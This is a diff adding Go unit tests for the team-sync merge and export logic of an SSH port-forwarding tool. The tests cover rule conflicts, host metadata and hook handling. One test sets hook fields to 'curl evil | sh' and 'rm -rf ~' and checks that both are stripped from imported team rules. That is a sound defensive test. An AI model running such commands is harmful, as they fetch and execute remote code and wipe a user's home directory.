@@ -0,0 +1,105 @@
+package teamsync
+
+import (
+	"reflect"
+	"slices"
+	"testing"
+
+	"github.com/ousiassllc/moleport/internal/core"
+)
+
+func TestMerge_Rules(t *testing.T) {
+	team := File{Forwards: []core.ForwardRule{
+		{Name: "db", Host: "bastion", Type: core.Local, LocalPort: 15432, RemotePort: 5432},
+		{Name: "web", Host: "bastion", Type: core.Local, LocalPort: 8080, RemotePort: 80},
+		{Name: "grafana", Host: "bastion", Type: core.Local, LocalPort: 3000, RemotePort: 3000},
+		{Name: "proxy", Host: "bastion", Type: core.Dynamic, LocalPort: 1080},
+		{Name: "proxy", Host: "bastion", Type: core.Dynamic, LocalPort: 1081},
+		{Name: "bad", Type: core.Dynamic, LocalPort: 1082},
+	}}
+	local := []core.ForwardRule{
+		{Name: "my-web", Host: "dev", Type: core.Local, LocalPort: 8080, RemoteHost: "localhost", RemotePort: 80},
+		{Name: "team-db", Host: "bastion", Type: core.Local, LocalPort: 15432, RemoteHost: "localhost", RemotePort: 5432},
+		{Name: "team-grafana", Host: "old", Type: core.Local, LocalPort: 3000, RemoteHost: "localhost", RemotePort: 3000},
+		{Name: "team-legacy", Host: "bastion", Type: core.Dynamic, LocalPort: 1090},
+	}
+
+	plan := Merge(team, local, nil)
+
+	if len(plan.Add) != 1 || plan.Add[0].Name != "team-proxy" {
+		t.Errorf("Add = %+v, want team-proxy", plan.Add)
+	}
+	if len(plan.Replace) != 1 || plan.Replace[0].Name != "team-grafana" || plan.Replace[0].Host != "bastion" {
+		t.Errorf("Replace = %+v, want team-grafana on bastion", plan.Replace)
+	}
+	if !slices.Equal(plan.Remove, []string{"team-legacy"}) {
+		t.Errorf("Remove = %v, want [team-legacy]", plan.Remove)
+	}
+	var conflicts []string
+	for _, c := range plan.Conflicts {
+		conflicts = append(conflicts, c.Name)
+	}
+	if want := []string{"team-web", "team-proxy", "team-bad"}; !slices.Equal(conflicts, want) {
+		t.Errorf("conflicts = %v, want %v", plan.Conflicts, want)
+	}
+	if got := plan.Conflicts[0].String(); got != "rule team-web: local port 8080 is used by local rule my-web" {
+		t.Errorf("Conflict.String() = %q", got)
+	}
+}
+
+func TestMerge_Hosts(t *testing.T) {
+	team := File{Hosts: map[string]core.HostMetadata{
+		"bastion": {Notes: "shared bastion", AuthHint: "yubikey"},
+		"prod":    {Notes: "production"},
+		"ghost":   {Notes: "not in ssh_config"},
+	}}
+	local := map[string]core.HostMetadata{
+		"bastion": {AuthHint: "password"},
+		"prod":    {Notes: "production"},
+	}
+
+	plan := Merge(team, nil, local)
+
+	if want := map[string]core.HostMetadata{"bastion": {Notes: "shared bastion"}}; len(plan.Hosts) != 1 || !reflect.DeepEqual(plan.Hosts, want) {
+		t.Errorf("Hosts = %+v, want %+v", plan.Hosts, want)
+	}
+	if len(plan.Conflicts) != 2 || plan.Conflicts[0].Name != "bastion" || plan.Conflicts[1].Name != "ghost" {
+		t.Errorf("Conflicts = %+v, want bastion auth_hint and unknown ghost", plan.Conflicts)
+	}
+	if plan.Empty() {
+		t.Error("Empty() = true, want false")
+	}
+}
+
+func TestExport(t *testing.T) {
+	rules := Export([]core.ForwardRule{
+		{Name: "team-db", Host: "bastion", Type: core.Local, LocalPort: 15432, RemotePort: 5432, ImportKey: "k"},
+		{Name: "mine", Host: "dev", Type: core.Dynamic, LocalPort: 1080},
+		{Name: "team-tmp", Host: "dev", Type: core.Dynamic, LocalPort: 1081, DeleteOnExpire: true},
+	})
+	if len(rules) != 1 || rules[0].Name != "db" || rules[0].ImportKey != "" {
+		t.Errorf("Export() = %+v, want db without import key", rules)
+	}
+}
+
+func TestMerge_DropsHooks(t *testing.T) {
+	team := File{Forwards: []core.ForwardRule{
+		{Name: "db", Host: "bastion", Type: core.Local, LocalPort: 15432, RemotePort: 5432, AutoConnect: true, OnStart: "curl evil | sh"},
+		{Name: "web", Host: "bastion", Type: core.Local, LocalPort: 8080, RemotePort: 80, OnStop: "rm -rf ~"},
+	}}
+	local := []core.ForwardRule{
+		{Name: "team-web", Host: "bastion", Type: core.Local, LocalPort: 8080, RemoteHost: "localhost", RemotePort: 80, OnStart: "notify-send web"},
+	}
+
+	plan := Merge(team, local, nil)
+
+	if len(plan.Add) != 1 || plan.Add[0].OnStart != "" || plan.Add[0].OnStop != "" {
+		t.Errorf("Add = %+v, want team-db without hooks", plan.Add)
+	}
+	if len(plan.Replace) != 0 {
+		t.Errorf("Replace = %+v, want team-web kept with its local hook", plan.Replace)
+	}
+	if rules := Export(local); len(rules) != 1 || rules[0].OnStart != "" {
+		t.Errorf("Export() = %+v, want web without hooks", rules)
+	}
+}